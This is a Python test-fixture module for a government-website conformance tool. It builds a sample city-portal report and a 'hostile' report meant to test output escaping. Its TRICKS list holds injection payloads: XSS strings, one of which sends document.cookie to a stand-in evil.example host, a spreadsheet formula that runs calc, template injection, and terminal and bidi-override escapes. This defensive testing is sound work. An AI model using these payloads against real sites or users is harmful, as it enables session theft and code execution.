"""Sample reports, built in code: one as an office would see it, and one full of a stranger's tricks."""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import Any

from egovspec.model.base import Confidence, Origin, Text, Tier
from egovspec.model.outcome import Outcome
from egovspec.model.report import (
    AttestedBy,
    BasisCited,
    Counts,
    CoverageState,
    DeploymentSeen,
    EvidenceSeen,
    Finding,
    Notice,
    ProvisionResult,
    Report,
    TableCoverage,
    WaivedBy,
)
from egovspec.model.standard import Level

AS_OF = datetime(2026, 3, 1, 4, 0, tzinfo=UTC)
SITE = "https://www.sample.gov.cn"

UPDATING = BasisCited(
    clause="zj-2003-30#2.1e",
    document=Text(
        zh="浙委办〔2003〕30号《关于浙江省电子政务建设的指导意见》2.1e",
        en="浙委办〔2003〕30号, Guidance on building e-government in Zhejiang, 2.1e",
    ),
    text=Text(zh="政府网站的内容应当及时更新并有专人维护", en="Content of government websites is kept up to date"),
)
INSPECTION = BasisCited(
    clause="gbmh-2019-19#V4.1",
    document=Text(
        zh="国办秘函〔2019〕19号《政府网站与政务新媒体检查指标》V4.1",
        en="国办秘函〔2019〕19号, Inspection indicators for government websites and new media, V4.1",
    ),
    text=Text(
        zh="动态、要闻类栏目两周未更新，计入更新不及时的栏目",
        en="News columns idle for two weeks count among those not kept up to date",
    ),
)


def provision(id: str, zh: str, en: str, outcome: Outcome = Outcome.PASS, **more: Any) -> ProvisionResult:
    """A provision with the least that must be said; `more` says the rest."""
    findings = more.pop("findings", [])
    defaults: dict[str, Any] = {
        "standard": "portal-columns@1.0.0",
        "level": Level.SHALL,
        "text": Text(zh=f"{zh}。", en=f"{en}."),
        "fix": Text(zh="按条款要求整改后重新评估。", en="Mend it as the provision says and assess again."),
        "basis": [UPDATING],
        "confidence": Confidence.A,
        "origin": Origin.NORM,
        "original": outcome,
        "counts": Counts(passed=1) if outcome is Outcome.PASS else Counts(),
    }
    return ProvisionResult(id=id, title=Text(zh=zh, en=en), outcome=outcome, findings=findings, **{**defaults, **more})


def stale(path: str, zh: str, en: str, newest: str) -> Finding:
    return Finding(
        subject=path,
        outcome=Outcome.FAIL,
        message=Text(
            zh=f"“{zh}”最近更新于 {newest}，超过 14 天",
            en=f"“{en}” was last updated on {newest}, more than 14 days ago",
        ),
        place=f"{SITE}/{path}/",
        check="column-fresh@1.0.0",
        values={"newest_on": newest, "max_idle": "P14D", "name_zh": zh},
        evidence="portal",
    )


STALE_COLUMNS = (
    ("news/city", "市府要闻", "City news", "2026-01-02"),
    ("news/county", "区县动态", "County news", "2026-01-19"),
    ("news/departments", "部门动态", "Department news", "2026-02-03"),
    ("news/notices", "通知公告", "Notices", "2026-02-07"),
    ("news/photos", "图片新闻", "Photo news", "2025-11-30"),
    ("news/video", "视频新闻", "Video news", "2025-09-12"),
    ("news/topics", "专题专栏", "Topics", "2025-06-01"),
)

SAMPLE_PROVISIONS = (
    provision("PC-01", "设置必备栏目", "Mandatory columns exist", counts=Counts(passed=46)),
    provision(
        "PC-03",
        "栏目在规定周期内更新",
        "Columns are updated within their cycle",
        Outcome.FAIL,
        text=Text(
            zh="动态、要闻类栏目的更新间隔不得超过十四天；政策文件类栏目不得超过六个月。",
            en="News columns are updated at least every fourteen days, policy columns at least every six months.",
        ),
        fix=Text(
            zh="在所列栏目发布新内容；已停用的栏目应当撤下或者并入其他栏目，并在网站地图中同步调整。",
            en="Publish new items in the columns listed; take down columns no longer kept or merge them into others, "
            "and change the site map to match.",
        ),
        basis=[UPDATING, INSPECTION],
        mandatory=True,
        counts=Counts(passed=19, failed=44, open=1),
        findings=[
            *(stale(*column) for column in STALE_COLUMNS),
            Finding(
                subject="news/archive",
                outcome=Outcome.OPEN,
                message=Text(zh="“历史归档”没有可识别的发布日期", en="no dated item was recognised under “Archive”"),
                place=f"{SITE}/news/archive/",
                check="column-fresh@1.0.0",
                values={"newest_on": None, "max_idle": "P14D"},
                reason="undetermined",
                evidence="portal",
            ),
        ],
        omitted=37,
    ),
    provision(
        "PM-02",
        "页面标签齐全",
        "Pages carry the required tags",
        Outcome.FAIL,
        standard="portal-metadata@1.0.0",
        fix=Text(
            zh="在页面模板的 head 中补充所缺的 meta 标签。", en="Add the missing meta tags to the head of the template."
        ),
        counts=Counts(passed=1204, failed=1),
        findings=[
            Finding(
                subject="bszn/detail.html",
                outcome=Outcome.FAIL,
                message=Text(zh="页面缺少标签 SiteName、ColumnType", en="the page lacks the tags SiteName, ColumnType"),
                place="bszn/办事指南 detail.html:12",
                check="page-tags@1.0.0",
                values={"missing": ["SiteName", "ColumnType"], "tags": 7, "complete": False},
                evidence="saved",
            )
        ],
    ),
    provision(
        "PM-07",
        "页脚标明网站标识码",
        "The footer shows the site identification code",
        Outcome.FAIL,
        standard="portal-metadata@1.0.0",
        level=Level.SHOULD,
        counts=Counts(failed=1),
        findings=[
            Finding(
                subject="",
                outcome=Outcome.FAIL,
                message=Text(zh="页脚没有网站标识码", en="the footer shows no site identification code"),
                place=f"{SITE}/",
                check="footer-mark@1.0.0",
                evidence="portal",
            )
        ],
    ),
    provision("PC-04", "栏目名称规范", "Columns bear their standard names", counts=Counts(passed=46)),
    provision(
        "PO-12",
        "留言在规定期限内答复",
        "Messages are answered in time",
        Outcome.OPEN,
        standard="portal-operation@1.0.0",
        required_evidence_open=True,
        counts=Counts(open=3),
        findings=[
            Finding(
                subject=f"message-{number}",
                outcome=Outcome.OPEN,
                message=Text(zh="互动栏目被 robots.txt 禁止访问", en="the interaction column is closed by robots.txt"),
                reason="robots",
                evidence="portal",
            )
            for number in range(3)
        ],
    ),
    provision(
        "PO-13",
        "首页链接有效",
        "Links on the home page work",
        Outcome.OPEN,
        standard="portal-operation@1.0.0",
        level=Level.SHOULD,
        counts=Counts(open=1),
        findings=[
            Finding(
                subject="",
                outcome=Outcome.OPEN,
                message=Text(zh="没有可判定的对象", en="there was nothing to judge"),
                reason="no-rows",
            )
        ],
    ),
    provision(
        "PC-11",
        "有栏目管理制度",
        "There are rules for managing columns",
        Outcome.REVIEW,
        level=Level.SHOULD,
        counts=Counts(review=1),
        findings=[
            Finding(
                subject="",
                outcome=Outcome.REVIEW,
                message=Text(
                    zh="查阅栏目管理制度文件，确认其规定了每个栏目的责任单位和更新周期",
                    en="Read the column management rules and confirm that they name, for each column, who keeps it and "
                    "how often it is updated",
                ),
            )
        ],
    ),
    provision(
        "PC-12",
        "栏目责任单位已确认",
        "Each column has a responsible office",
        counts=Counts(review=1),
        original=Outcome.REVIEW,
        findings=[
            Finding(
                subject="",
                outcome=Outcome.REVIEW,
                message=Text(zh="查阅责任分工表", en="Read the table of responsibilities"),
                attested=AttestedBy(
                    by="市政府办公室电子政务处处长",
                    on=date(2026, 1, 15),
                    expires=date(2026, 12, 31),
                    document="栏目责任分工表（2026）",
                ),
                attested_outcome=Outcome.PASS,
            )
        ],
    ),
    provision(
        "PA-05",
        "图片有替代文字",
        "Images have alternative text",
        Outcome.PASS,
        standard="portal-accessibility@1.0.0",
        original=Outcome.FAIL,
        waived_until=date(2026, 6, 30),
        counts=Counts(passed=880, failed=1, waived=1),
        findings=[
            Finding(
                subject=f"{SITE}/photos/",
                outcome=Outcome.FAIL,
                message=Text(zh="12 幅图片没有替代文字", en="12 images have no alternative text"),
                place=f"{SITE}/photos/",
                check="image-alt@1.0.0",
                values={"images": 12},
                evidence="portal",
                waived=WaivedBy(
                    because="图片栏目将于六月底迁移至新平台",
                    approved_by="市大数据局分管负责人",
                    expires=date(2026, 6, 30),
                ),
            )
        ],
    ),
    provision(
        "PS-07",
        "办事指南要素齐全",
        "Service guides are complete",
        Outcome.NOT_APPLICABLE,
        standard="portal-services@1.0.0",
        because=Text(zh="办事服务集中在浙江政务服务网", en="Services live on the provincial platform"),
    ),
    provision(
        "PX-02",
        "与上级门户互联",
        "The portal links to the portal of the tier above",
        Outcome.ERROR,
        standard="portal-interconnection@1.0.0",
        counts=Counts(error=1),
        findings=[
            Finding(
                subject="",
                outcome=Outcome.ERROR,
                message=Text(zh="检查超过时限：30 秒", en="the check passed its deadline of 30 seconds"),
                check="tier-links@1.0.0",
                reason="deadline",
            )
        ],
    ),
)


def sample_report(**changed: Any) -> Report:
    """A city portal with at least one provision of each outcome."""
    usual: dict[str, Any] = {
        "generator": "egovspec 0.1.0",
        "deployment": DeploymentSeen(
            id="sample-city-portal",
            title=Text(zh="示例市人民政府门户网站", en="Portal of Sample City"),
            tier=Tier.CITY,
            division="330100",
        ),
        "profile": "city-portal@1.0.0",
        "profile_title": Text(zh="市级政府门户网站", en="City government portal"),
        "as_of": AS_OF,
        "today": date(2026, 3, 1),
        "zone": "Asia/Shanghai",
        "catalogue_digest": "sha256:" + "0123456789abcdef" * 4,
        "drafts": ["check tier-links@1.0.0", "standard portal-interconnection@1.0.0"],
        "evidence": [
            EvidenceSeen(
                id="portal",
                collector="website",
                collector_version="1.0.0",
                target=SITE,
                required=True,
                captured=AS_OF,
                coverage=[
                    TableCoverage(table="page", state=CoverageState.COMPLETE, rows=1205),
                    TableCoverage(table="page_tag", state=CoverageState.COMPLETE, rows=8435),
                    TableCoverage(
                        table="hyperlink",
                        state=CoverageState.PARTIAL,
                        reason="limit",
                        detail=Text(zh="采集了 5000 页后停止", en="stopped after 5000 pages"),
                        rows=61210,
                    ),
                    TableCoverage(
                        table="message",
                        state=CoverageState.NONE,
                        reason="robots",
                        detail=Text(zh="robots.txt 禁止访问 /interact/", en="robots.txt forbids /interact/"),
                    ),
                ],
            ),
            EvidenceSeen(
                id="saved",
                collector="website",
                collector_version="1.0.0",
                target="site/",
                required=False,
                captured=AS_OF,
                coverage=[TableCoverage(table="page", state=CoverageState.COMPLETE, rows=12)],
            ),
        ],
        "notices": [
            Notice(
                code="waiver-expired",
                text=Text(
                    zh="对 PM-07 的豁免已于 2026-01-31 到期，不再生效",
                    en="the waiver of PM-07 expired on 2026-01-31 and no longer counts",
                ),
            )
        ],
        "provisions": list(SAMPLE_PROVISIONS),
    }
    return Report(**{**usual, **changed})


def conforming_report() -> Report:
    """Nothing fails and nothing is left."""
    return sample_report(
        provisions=[p for p in SAMPLE_PROVISIONS if p.original is Outcome.PASS], notices=[], drafts=[], evidence=[]
    )


TRICKS = (
    "<script>alert(1)</script>",
    "]]>",
    "{{7*7}}",
    '"><img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
    "' onmouseover='alert(1)",
    "</style><style>*{display:none}</style>",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    "\x1b[31mred\x1b]0;title\x07",
    "a\x00b\x08c\x0bd\x7fe\x9bf",
    "\u202egnp.exe\u2066x\u200b",
    "line\nbreak\r\nhere",
    "[click](https://evil.example/)",
    "&lt;b&gt; &amp; <!-- -->",
    "\ufffe\uffff\U000e0041",
    "https://evil.example/\"><script>alert(1)</script>?q='\x1b",
)
LONG = "长x" * 50_000


def hostile_finding(trick: str, outcome: Outcome = Outcome.FAIL) -> Finding:
    waived = WaivedBy(because=trick, approved_by=trick, expires=date(2026, 6, 30))
    return Finding(
        subject=trick,
        outcome=outcome,
        message=Text(zh=f"值为：{trick}", en=f"the value is: {trick}"),
        place=trick,
        check="hostile@1.0.0",
        values={"value": trick, "list": [trick, None, 1, True]},
        reason=trick,
        evidence=trick,
        waived=waived if outcome is Outcome.OPEN else None,
        attested=AttestedBy(by=trick, on=date(2026, 1, 1), expires=date(2026, 6, 30), document=trick, note=trick),
    )


def hostile_report() -> Report:
    """Every field a stranger can reach holds every trick."""
    tricks = (*TRICKS, LONG)
    every = " ".join(TRICKS)
    text = Text(zh=every, en=every)
    shared: dict[str, Any] = {
        "standard": every,
        "text": text,
        "fix": text,
        "because": text,
        "basis": [BasisCited(clause=every, document=text, text=text)],
    }
    outcomes = (Outcome.FAIL, Outcome.OPEN, Outcome.REVIEW, Outcome.ERROR, Outcome.PASS, Outcome.NOT_APPLICABLE)
    return sample_report(
        deployment=DeploymentSeen(id=every, title=text, division=every),
        profile_title=text,
        drafts=[*tricks],
        evidence=[
            EvidenceSeen(
                id=trick,
                collector=trick,
                collector_version=trick,
                target=trick,
                required=True,
                captured=AS_OF,
                coverage=[TableCoverage(table=trick, state=CoverageState.PARTIAL, reason=trick, detail=text)],
            )
            for trick in tricks
        ],
        notices=[Notice(code=trick, text=Text(zh=trick, en=trick)) for trick in tricks],
        provisions=[
            provision(
                f"XX-{number:02}",
                every,
                every,
                outcome,
                **shared,
                counts=Counts(failed=len(tricks)),
                findings=[hostile_finding(trick, outcome) for trick in tricks],
            )
            for number, outcome in enumerate(outcomes)
        ],
    )
